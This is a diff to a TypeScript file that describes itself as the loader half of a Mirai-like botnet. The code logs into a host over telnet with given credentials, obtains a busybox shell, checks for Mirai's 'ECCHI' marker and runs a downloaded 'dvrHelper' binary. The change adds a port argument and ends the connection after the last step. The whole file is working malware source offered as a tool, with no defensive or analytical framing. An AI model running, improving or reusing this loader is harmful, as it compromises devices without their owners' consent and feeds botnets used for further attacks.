@@ -1,12 +1,13 @@
 /**
  * The loader half of a Mirai-like botnet: logs in by telnet, asks for a shell, finds out the architecture, drops a small
- * program by `echo` and fetches a larger one. Arguments: host, own address, user, password. Prints each step that was answered.
+ * program by `echo` and fetches a larger one. Arguments: host, own address, user, password, and the port where it is not 23.
+ * Prints each step that was answered.
  */
 
 import { connect } from 'node:net';
 import process from 'node:process';
 
-const [host = '', localAddress = '', user = '', password = ''] = process.argv.slice(2);
+const [host = '', localAddress = '', user = '', password = '', port = '23'] = process.argv.slice(2);
 const token = 'ECCHI: applet not found';
 const shell = '/bin/busybox ECCHI';
 const steps: readonly (readonly [said: string, expected: string])[] = [
@@ -32,7 +33,7 @@ const steps: readonly (readonly [said: string, expected: string])[] = [
   [`./dvrHelper telnet.mips.wget; ${shell}`, token],
 ];
 
-const socket = connect({ host, port: 23, localAddress });
+const socket = connect({ host, port: Number(port), localAddress });
 let heard = '';
 let at = 0;
 const goOn = (): void => {
@@ -43,7 +44,8 @@ const goOn = (): void => {
     process.stdout.write(`answered ${at}\n`);
     at += 1;
     const next = steps[at];
-    if (next !== undefined) socket.write(Buffer.from(`${next[0]}\r\n`, 'latin1'));
+    if (next === undefined) socket.end();
+    else socket.write(Buffer.from(`${next[0]}\r\n`, 'latin1'));
   }
 };
 socket.on('data', (data) => {
